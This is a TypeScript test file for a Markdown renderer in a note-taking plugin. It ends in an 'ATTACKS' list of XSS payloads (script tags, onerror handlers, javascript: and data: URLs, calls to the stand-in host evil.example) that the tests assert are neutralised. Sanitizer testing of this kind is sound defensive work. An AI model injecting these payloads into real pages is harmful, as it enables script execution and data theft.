/** A note as elements: what it says is there, and nothing that could act. */

import { describe, expect, it } from "vitest";
import { atHeading, atLine, outwardLink, obsidianLink, zoteroLink } from "../../plugin/web/lib/links";
import { render } from "../../plugin/web/lib/markdown";
import { body } from "../../plugin/web/lib/syntax";

function drawn(content: string): HTMLElement {
  const el = document.createElement("div");
  const known: Readonly<Record<string, string>> = { Bees: "#/bees", "Bees#Home": "#/bees", "Garden/Hive": "#/hive" };
  el.append(render(content, { note: (target) => known[target] ?? null, tag: (tag) => `#/tag/${tag.slice(1)}` }));
  return el;
}

describe("Obsidian's Markdown", () => {
  it("leads along wikilinks, and marks those that lead nowhere", () => {
    const el = drawn("See [[Bees]], [[Bees#Home|their way]], ![[Garden/Hive]] and [[Nobody]].");
    const links = [...el.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href"), a.className]);
    expect(links).toEqual([
      ["Bees", "#/bees", "wikilink"],
      ["their way", "#/bees", "wikilink"],
      ["Garden/Hive", "#/hive", "embed"],
    ]);
    expect(el.querySelector(".nowhere")?.textContent).toBe("Nobody");
  });

  it("follows Markdown links to notes", () => {
    const el = drawn("[the hive](Garden/Hive.md) and [gone](Gone.md)");
    expect(el.querySelector("a")?.getAttribute("href")).toBe("#/hive");
    expect(el.querySelector(".nowhere")?.textContent).toBe("gone");
  });

  it("knows tags, marks, comments, block ids, tasks and callouts", () => {
    const el = drawn("#garden/bees and ==gold== %%secret%% here ^id1\n\n- [x] fed\n- [ ] watered\n\n> [!tip]- Look\n> up\n\nno#tag, #12");
    expect([...el.querySelectorAll("a.tag")].map((a) => a.getAttribute("href"))).toEqual(["#/tag/garden/bees"]);
    expect(el.querySelector("mark")?.textContent).toBe("gold");
    expect(el.textContent).not.toMatch(/secret|\^id1/);
    expect([...el.querySelectorAll(".task")].map((one) => one.getAttribute("aria-label"))).toEqual(["done", "to do"]);
    expect(el.querySelector(".callout .callout-title")?.textContent).toBe("Look");
  });

  it("leaves properties out and counts lines as the file does", () => {
    expect(body("---\na: 1\n---\nText").lines).toBe(3);
    const el = drawn("---\na: 1\n---\n# Title\n\ntext");
    expect(el.querySelector("h1")?.dataset["line"]).toBe("4");
    expect(el.querySelector("p")?.dataset["line"]).toBe("6");
    expect(drawn("--- not properties").textContent).toContain("not properties");
  });

  it("draws tables, code and lists", () => {
    const el = drawn("| a | b |\n|---|---|\n| 1 | [[Bees]] |\n\n```js\nlet [[Bees]]\n```\n\n3. three\n4. four");
    expect(el.querySelectorAll("td")).toHaveLength(2);
    expect(el.querySelector("td a")?.getAttribute("href")).toBe("#/bees");
    expect(el.querySelector("pre a")).toBeNull();
    expect(el.querySelector("ol")?.getAttribute("start")).toBe("3");
  });
});

describe("what notes hold beside plain Markdown", () => {
  it("numbers footnotes in the order of the text, and leads there and back", () => {
    const el = drawn("One[^b], two[^a], again[^b], none[^c].\n\n[^a]: First\n[^b]: Second [[Bees]]\n    goes on");
    expect([...el.querySelectorAll(".footnote-mark")].map((mark) => mark.textContent)).toEqual(["1", "2", "1"]);
    expect([...el.querySelectorAll(".footnotes li")].map((item) => item.textContent)).toEqual(["Second Beesgoes on↩", "First↩"]);
    expect(el.querySelector(".footnotes a")?.getAttribute("href")).toBe("#/bees");
    expect(el.textContent).toContain("none[^c]");
  });

  it("gives callouts their kind, and folds those that say so", () => {
    const el = drawn("> [!caution]- Mind *this*\n> hot\n\n> [!TIP]\n> warm\n\n> [!own]+\n> x\n\n> no callout");
    const told = [...el.querySelectorAll(".callout")].map((one) => [one.tagName, one.hasAttribute("open"), one.className, one.querySelector(".callout-title")?.textContent]);
    expect(told).toEqual([
      ["DETAILS", false, "callout is-warning", "Mind this"],
      ["BLOCKQUOTE", false, "callout is-tip", "TIP"],
      ["DETAILS", true, "callout is-note", "Own"],
    ]);
    expect(el.querySelector("details p")?.textContent).toBe("hot");
    expect(el.querySelectorAll("blockquote:not(.callout)")).toHaveLength(1);
  });

  it("shows the text in HTML, and no tags", () => {
    const el = drawn("<div class=x>\n<b>Inside</b> a block\n</div>\n\nA <span style='color:red'>red</span> word<br>below <!-- hidden -->1 < 2");
    expect(el.textContent.replace(/\s+/g, " ").trim()).toBe("Inside a blockA red wordbelow 1 < 2");
    expect(el.querySelector("br")).not.toBeNull();
  });

  it("shows a table of 20,000 columns as text, at once", () => {
    const row = (cell: string): string => `|${`${cell}|`.repeat(20_000)}`;
    const el = drawn(`# Wide\n\n${row("a")}\n${row("-")}\n${row("1")}\n\nafter`);
    expect(el.querySelector("table")).toBeNull();
    expect(el.querySelector("pre")?.textContent).toContain("the rest of this table is in the note itself");
    expect(el.querySelectorAll("*").length).toBeLessThan(20);
    expect(el.textContent).toContain("after");
  });

  it("shows a table of too many rows as text, and an ordinary one as a table", () => {
    const rows = "| a | b |\n".repeat(8_000);
    expect(drawn(`| x | y |\n|---|---|\n${rows}`).querySelector("table")).toBeNull();
    expect(drawn(`| x | y |\n|---|---|\n${rows.slice(0, 1_000)}`).querySelectorAll("tbody tr")).toHaveLength(100);
  });
});

describe("formulas, and code in a language", () => {
  const formulas = (text: string): (string | null)[][] => [...drawn(text).querySelectorAll<HTMLElement>("[data-math]")].map((el) => [el.dataset["math"] ?? "", el.textContent]);

  it("are marked for those that draw them, and are as they are written until then", () => {
    expect(formulas("A $e^{i\\pi}$ b, $x_1*y*$ and $$c$$ here")).toEqual([["line", "e^{i\\pi}"], ["line", "x_1*y*"], ["apart", "c"]]);
    expect(formulas("Above\n$$\n\\frac{a}{b}\n$$\nbelow\n\n> $$q$$")).toEqual([["apart", "\\frac{a}{b}"], ["apart", "q"]]);
    const el = drawn("```Python title\nx = 1\n```\n\n```\nplain\n```\n\n    indented");
    expect([...el.querySelectorAll("pre")].map((one) => [one.dataset["code"], one.dataset["line"]])).toEqual([["python", "1"], [undefined, "5"], [undefined, "9"]]);
  });

  it("are not money, code, or what nobody closes", () => {
    for (const text of ["It costs $5 or $6.", "$ a $", "`$a$`", "```\n$a$\n```", "\\$a\\$", "$$\nopen", "$a\n\nb$"]) expect(formulas(text)).toEqual([]);
    expect(formulas(`${"$a ".repeat(20_000)}\n\n${"$$".repeat(20_000)}`)).toEqual([]);
  });
});

describe("text from right to left", () => {
  it("has its bars, bullets and columns on its own side", () => {
    const el = drawn("> \u0646\u0635 one\n\n- \u05e9\u05dc\u05d5\u05dd\n\n> [!tip] \u0646\u0635\n> x\n\n> left\n\n1. left");
    expect([...el.querySelectorAll<HTMLElement>("blockquote, ul, ol")].map(({ dir }) => dir)).toEqual(["rtl", "rtl", "rtl", "ltr", "ltr"]);
  });
});

describe("HTML in a note", () => {
  it("is drawn where its tags are harmless, without their attributes", () => {
    const el = drawn('H<sub class="x">2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd> and <mark>gold</mark>, <b onclick="x()">bold</b>');
    expect(el.querySelector("p")?.innerHTML).toBe('H2O, x<sup>2</sup>, <kbd>Ctrl</kbd> and <mark>gold</mark>, bold');
  });

  it("folds details, with Markdown in them", () => {
    const el = drawn("<details>\n<summary>The <b>recipe</b></summary>\n\n- see [[Bees]]\n\n</details>\n\nafter");
    expect(el.querySelector("details > summary")?.textContent).toBe("The recipe");
    expect(el.querySelector("details li a")?.getAttribute("href")).toBe("#/bees");
    expect(el.lastElementChild?.textContent).toBe("after");
    expect(el.lastElementChild?.tagName).toBe("P");
  });

  it("ends with the paragraph or list that it is in", () => {
    const el = drawn("- a <sub>b\n- c</sub> d\n\n**e <kbd>f** g</kbd> h");
    expect([...el.querySelectorAll("li")].map((item) => item.textContent)).toEqual(["a b", "c d"]);
    expect(el.querySelector("strong kbd")?.textContent).toBe("f");
    expect(el.querySelector("p:last-child")?.textContent).toBe("e f g h");
  });
});

const ATTACKS = [
  `${"<sub>".repeat(5_000)}x`,
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<form action=http://evil.example><button>x</button></form>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](http://evil.example/pixel.png)",
  "![\"onerror=alert(1)](x)",
  "[[javascript:alert(1)]]",
  "[[Bees\" onclick=\"alert(1)]]",
  "![[<img src=x onerror=alert(1)>]]",
  "[[x|<img src=x onerror=alert(1)>]]",
  "#<img/src=x/onerror=alert(1)>",
  "==<script>alert(1)</script>==",
  "`<script>alert(1)</script>`",
  "> [!<img src=x onerror=alert(1)>] x",
  "> [!note] <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "[a]: javascript:alert(1)\n\n[a]",
  "$<img src=x onerror=alert(1)>$",
  "$$\n</div><script>alert(1)</script>\n$$",
  "```mermaid\n<script>alert(1)</script>\n```",
  "```\" onclick=alert(1)\n```",
  "---\nx: </script><script>alert(1)</script>\n---\ntext",
];

const HARMLESS = new Set(
  "DIV P H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD EM STRONG S MARK CODE PRE BR HR A SPAN svg path SUB SUP KBD DETAILS SUMMARY".split(" "),
);
const ATTRIBUTES = new Set(["href", "class", "dir", "rel", "target", "title", "data-line", "data-file", "data-target", "data-math", "data-code", "start", "tabindex", "role", "aria-label", "viewBox", "aria-hidden", "d", "open"]);

describe("a hostile note", () => {
  it.each(ATTACKS)("cannot act: %s", (attack) => {
    for (const el of drawn(attack).querySelectorAll("*")) {
      expect(HARMLESS).toContain(el.tagName);
      for (const { name, value } of el.attributes) {
        expect(ATTRIBUTES).toContain(name);
        if (name === "href") expect(value).toMatch(/^(#|https?:|mailto:|obsidian:)/);
      }
    }
  });

  it("asks no other server for a picture", () => {
    expect(drawn("![pixel](http://evil.example/p.png)").querySelector("img")).toBeNull();
  });

  it("is drawn in reasonable time however it is made", () => {
    const deep = `${"> ".repeat(2_000)}x\n\n${"[[".repeat(20_000)}\n\n${"==a".repeat(20_000)}\n\n${"*a_".repeat(5_000)}`;
    expect(drawn(deep).textContent.length).toBeGreaterThan(0);
  });
});

describe("links", () => {
  it("lead into the app only by its own kind of address", () => {
    expect(obsidianLink("obsidian://open?vault=a&file=b")).not.toBeNull();
    const uri = "obsidian://open?vault=My%20notes&file=Garden%2FBees";
    expect(atHeading(uri, "Why: a [[Hive]]?")).toBe(`${uri}%23Why%20a%20Hive%20%3F`);
    expect(atLine(uri, "Garden/Bees & co.md", 12)).toBe("obsidian://notewell-open?vault=My%20notes&file=Garden%2FBees%20%26%20co.md&line=12");
    for (const uri of ["javascript:alert(1)", "obsidian://advanced-uri?x", "http://a"]) expect(obsidianLink(uri)).toBeNull();
    expect(zoteroLink("zotero://select/library/items/AAAA1111")).not.toBeNull();
    for (const uri of ["zotero://report/x", "file:///zotero://select/"]) expect(zoteroLink(uri)).toBeNull();
  });
  it("lead outward by harmless kinds alone", () => {
    expect(outwardLink("https://example.org/")).toBe("https://example.org/");
    for (const href of ["data:text/html,x", "blob:x", "file:///x", "javascript:x", "x.md"]) expect(outwardLink(href)).toBeNull();
  });
});
